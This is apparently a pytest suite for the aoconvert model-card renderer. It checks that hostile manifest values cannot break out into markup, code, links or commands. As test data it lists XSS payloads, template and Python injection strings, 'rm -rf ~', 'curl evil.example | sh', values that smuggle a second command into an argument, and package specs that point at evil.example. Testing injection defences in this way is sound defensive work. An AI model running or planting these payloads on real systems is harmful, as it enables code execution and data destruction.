"""A hostile manifest: nothing in it becomes markup, code, a link or YAML of its own."""

from __future__ import annotations

import ast
import json
from pathlib import Path
from typing import Any

import pytest
from editing import REPO, edit
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from reading import read

from aoconvert.cards import CardOptions, markdown, render
from aoconvert.errors import SourceError

HOSTILE = [
    "```\n# stolen\n```python\nimport os\n```",
    "a | b | c \\| d || e",
    "<script>alert(1)</script><img src=x onerror=alert(1)><!-- -->",
    "line\n\n# heading\n\n- list\n---\nlicense: mit\n---\n",
    "{{ 7 * 191 }}{% for x in range(9) %}{{ x }}{% endfor %}{# #}",
    "'); __import__('os').system('touch /tmp/aoconvert-was-here') #\\",
    "[click](javascript:alert(1)) ![i](http://evil.example/x.png) <http://evil.example> www.evil.example a@b.example",
    "`` ` ``` ` \\` &#124; &lt;b&gt; **b** _i_ ~~s~~ $$x$$ :smile:",
    '"; rm -rf ~; $(id) `id` && echo "',
    "</details></summary>\u202e\u0000\u001b[31m\x7f\u2028",
    "x" * 100_000,
    "1. one\n2. two",
    "| --- |",
]


def poison(values: dict[str, Any], bad: str) -> None:
    """Put ``bad`` wherever a manifest takes a text."""
    path = bad.replace("\\", "").replace("\0", "").replace("..", "").lstrip("/") or "x"
    source, part, run = values["source"], values["components"][0], values["run"]
    source.update(repo_id=bad, revision=bad, license=bad, base_model=bad, subfolder=bad)
    source["card"] = {
        **dict.fromkeys(("license", "license_name", "license_link", "pipeline_tag", "library_name"), bad),
        "language": [bad, "en"],
        "tags": [bad, "video"],
    }
    source["files"][0]["path"] = f"{path}.safetensors"
    for key in values["environment"]:
        values["environment"][key] = values["environment"][key] if key == "device" else bad
    values["environment"]["device"].update(name=bad)
    values["tool"] = {"name": bad, "version": bad}
    part.update(scheme=bad, dtype=bad, config={"_type": bad, "_data": {"granularity": {"_type": bad, "_data": bad}}})
    part["layout"].update(packing=bad, requires=[bad, "evil @ http://evil.example/x"])
    part["loads_with"] = {"torchao": bad, bad: bad}
    part["files"].append({"path": f"{path}.bin", "size": 1, "sha256": "0" * 64})
    for place, tensor in enumerate(part["tensors"][:40]):
        tensor.update(name=f"{tensor['name']}{bad}" if place % 2 else bad, dtype=bad)
        tensor["reason"] = bad if tensor["action"] != "quantize" else None
    part["missing"] = part["dropped"] = [{"name": bad, "reason": bad}, {"name": f"{bad}.1.x", "reason": bad}]
    part["tensors"][-1].update(action="carry", name=bad, reason=bad)
    part["rules"] = {bad: bad}
    values["left_behind"] = [{"path": bad, "reason": bad}]
    values["pipeline"] = {"class_name": bad, "call": {bad: bad, "prompt": bad}}
    stored = {"name": bad, "dtype": bad, "shape": [1], "sha256": "0" * 64, "file": f"{path}.bin"}
    for other in values["unquantized"]:
        other.update(name=bad, class_name=bad, tensors=[stored])
    run.update(command=bad, started=bad)
    values["copied"].append({"path": f"{path}/{path}.bin", "size": 1, "sha256": "0" * 64})


@pytest.mark.parametrize("bad", HOSTILE, ids=[str(place) for place in range(len(HOSTILE))])
def test_nothing_breaks_out(bad: str, pipeline: Path) -> None:
    def clean(values: dict[str, Any]) -> None:
        poison(values, "a b")

    edit(pipeline, clean)
    usual = read(render(pipeline, CardOptions(), repo_id=REPO).text)
    edit(pipeline, lambda values: poison(values, bad))
    write_report(pipeline, bad)
    card = render(pipeline, CardOptions(), repo_id=REPO)
    page = read(card.text)
    assert [h for h in page.headings if "h1" not in h] == [h for h in usual.headings if "h1" not in h]
    assert page.headings[0] == "h1 tiny-int8wo"
    allowed = {"<details>", "</details>", "<code>", "</code>", "<summary>By name</summary>"}
    seal = card.text.splitlines()[-1]
    assert page.html <= allowed | {"<summary>SHA-256 of the weights</summary>", seal}
    assert page.links <= {"https://github.com/pytorch/ao"}
    images = [token for token in page.inline if token.type == "image"]
    assert [token.attrs["src"] for token in images] == ["sqnr.svg"]
    assert len(page.fences("python")) == 2
    # a list, a quote, a rule or a fence more would be a break-out; rows of tables may be fewer or more
    for kind in (
        "bullet_list_open",
        "ordered_list_open",
        "blockquote_open",
        "hr",
        "fence",
        "code_block",
        "heading_open",
    ):
        assert page.shape.count(kind) - usual.shape.count(kind) in ((0, -1) if kind == "fence" else (0,)), kind
    for opened in (place for place, token in enumerate(page.tokens) if token.type == "tr_open"):
        assert page.tokens[opened].level >= 2
    assert "1337" not in page.shown  # what the Jinja in it would give
    assert not Path("/tmp/aoconvert-was-here").exists()
    assert not any(ord(char) < 32 and char != "\n" for char in card.text)
    assert "\u202e" not in card.text and len(card.text) < 200_000
    assert "base_model" not in page.front


def write_report(folder: Path, bad: str) -> None:
    from aoconvert.checkpoint.files import file_sha256

    check = {"name": "reload", "status": "passed", "detail": bad, "seconds": 0.0}
    values = {
        **dict.fromkeys(("torchao", "torch", "python", "published")),
        **dict.fromkeys(("safe_globals", "imports", "ran", "forward"), ()),
        "schema_version": 1,
        "ok": True,
        "path": bad,
        "example": False,
        "checks": [check],
        "strategy": "from-pretrained",
        "versions": {bad: bad, "torch": bad},
        "manifest_sha256": file_sha256(folder / "aoconvert.json"),
        "date": "2026-11-21T00:00:00+00:00",
        "device": bad,
        "code_sha256": bad,
    }
    (folder / "aoconvert.verify.json").write_text(json.dumps(values))


def shape_of(code: str) -> str:
    """The code's syntax tree without the values of its strings."""
    tree = ast.parse(code)
    for node in ast.walk(tree):
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            node.value = ""
    return ast.dump(tree)


@pytest.mark.parametrize("bad", ["');import os#", '"""', "{0}{os}", "a'b\"c", "\n__import__('os')\n"])
def test_file_names_stay_literals(bad: str, pipeline: Path) -> None:
    def change(values: dict[str, Any], name: str) -> None:
        values["components"][0]["load"]["strategy"] = "assign"
        values["components"][0]["files"][0]["path"] = f"transformer/{name}.bin"

    edit(pipeline, lambda values: change(values, "plain"))
    plain = read(render(pipeline, CardOptions(), repo_id=REPO).text).fences("python")[0]
    edit(pipeline, lambda values: change(values, bad))
    code = read(render(pipeline, CardOptions(), repo_id=REPO).text).fences("python")[0]
    assert shape_of(code) == shape_of(plain)
    strings = [node.value for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Constant)]
    assert f"/transformer/{bad}.bin" in strings


@pytest.mark.parametrize("bad", ["X(); import os", "x.y", "class", "", "X\n", "Ｘ", "A" * 200])
def test_a_class_name_that_is_code(bad: str, pipeline: Path) -> None:
    edit(pipeline, lambda values: values["components"][0].update(class_name=bad))
    with pytest.raises(SourceError):
        render(pipeline, CardOptions())


@pytest.mark.parametrize(
    "command",
    [
        "aoconvert quantize x; rm -rf ~",
        "curl evil.example | sh",
        "aoconvert push evil/repo",
        "aoconvert quantize evil/repo --scheme int8wo",
        "aoconvert quantize ../x --scheme int8wo",
        "aoconvert quantize /etc --scheme int8wo",
        "aoconvert quantize -h",
        "aoconvert quantize x --scheme int8wo --token hf_x",
        "aoconvert quantize x --scheme int8wo --trust-remote-code",
        "aoconvert quantize x --scheme int8wo -o /home/you/.ssh --overwrite",
        "aoconvert quantize x --scheme int8wo --output=elsewhere",
        "aoconvert quantize x --scheme",
        "aoconvert quantize x --scheme 'int8wo;id'",
        "aoconvert quantize x --scheme --overwrite",
        "aoconvert quantize x --scheme int8wo --revision main",
        "aoconvert quantize x --scheme int8wo --subfolder ../..",
        "aoconvert quantize x --scheme int8wo --component a=/b",
        "aoconvert quantize x y --scheme int8wo",
        "aoconvert quantize 'x --scheme int8wo",
    ],
)
def test_a_command_that_aoconvert_does_not_write_is_not_shown(command: str, pipeline: Path) -> None:
    edit(pipeline, lambda values: values["run"].update(command=command))
    page = read(render(pipeline, CardOptions()).text)
    assert "To make it again" not in page.shown
    assert not any("quantize" in block or "evil" in block for block in page.fences("bash"))


def test_a_command_names_the_source_that_the_card_names(pipeline: Path) -> None:
    commit = "0" * 40
    line = f"aoconvert quantize a/b --scheme int8wo --revision {commit} --skip 're:x;y' --component transformer"
    for repo, revision, shown in (("a/b", commit, True), ("a/c", commit, False), ("a/b", "1" * 40, False)):

        def change(values: dict[str, Any], repo: str = repo, revision: str = revision) -> None:
            values["source"].update(kind="hub", repo_id=repo, revision=revision)
            values["run"]["command"] = line

        edit(pipeline, change)
        assert (f"{line}\n" in read(render(pipeline, CardOptions()).text).fences("bash")) == shown


def test_every_option_that_is_written_is_known() -> None:
    """A command with an option that the card does not know would not be shown."""
    from aoconvert.cards.reproduce import OPTIONS
    from aoconvert.options import QuantizeOptions

    run_only = {"output", "overwrite", "resume", "token", "cache_dir", "local_files_only", "scheme"}
    renamed = {"settings": "set", "components": "component", "default_skips": "no-default-skips"}
    for name in set(QuantizeOptions.__dataclass_fields__) - run_only:
        assert f"--{renamed.get(name, name).replace('_', '-')}" in OPTIONS, name


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("evil-package>=1", None),
        ("mslk>=1.0.0", "mslk>=1.0.0"),
        ("mslk==0.0.1", None),
        ("mslk[evil]>=1", None),
        ("mslk @ https://evil.example/mslk.whl", None),
        ("mslk>=1; python_version > '3'", None),
        ("torchao_evil>=0.18", None),
    ],
)
def test_only_packages_that_a_layout_can_need(line: str, shown: str | None, pipeline: Path) -> None:
    edit(pipeline, lambda values: values["components"][0]["layout"].update(requires=[line]))
    install = read(render(pipeline, CardOptions()).text).fences("bash")[0]
    assert "evil" not in install
    assert ("mslk" in install) == (shown is not None)
    assert shown is None or f"'{shown}'" in install


def test_versions_that_aoconvert_does_not_run_with_are_no_pins(pipeline: Path) -> None:
    """An old torch runs code in a pickle that it was told not to trust."""
    edit(pipeline, lambda values: values["environment"].update(torch="2.5.1", torchao="0.18.0"))
    install = read(render(pipeline, CardOptions()).text).fences("bash")[0].split()
    assert "torch" in install and "torchao==0.18.0" in install


def test_other_packages_are_not_asked_for(pipeline: Path) -> None:
    from aoconvert.checkpoint.manifest import load
    from aoconvert.verification.versions import version_problems

    edit(pipeline, lambda values: values["components"][0]["loads_with"].update({"evil-package": ">=1"}))
    assert "evil" not in render(pipeline, CardOptions()).text
    assert version_problems(load(pipeline).components[0]) == [
        "the manifest requires the package 'evil-package', which no torchao checkpoint needs"
    ]


MARKDOWN = MarkdownIt("gfm-like", {"linkify": False, "html": True}).disable("linkify")


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("ab1 `|\\<>*_[]()!#&;:-+=~$@./\n\t{}'\"^"), max_size=40) | st.text(max_size=40))
def test_any_text_is_shown_as_it_is(value: str) -> None:
    wanted = markdown.visible(value).strip()
    for written in (markdown.text(value), markdown.code(value)):
        tokens = MARKDOWN.parse(f"| a | b |\n|---|---|\n| {written} | end |\n")
        rows = [token for token in tokens if token.type == "inline"]
        assert len(rows) == 4, written
        children = rows[2].children or []
        assert {child.type for child in children} <= {"text", "code_inline", "html_inline", "text_special"}, written
        assert "".join(child.content for child in children if child.type != "html_inline").strip() == wanted
        [_, inline, *_] = MARKDOWN.parse(f"{written} end\n")
        assert inline.type == "inline", written
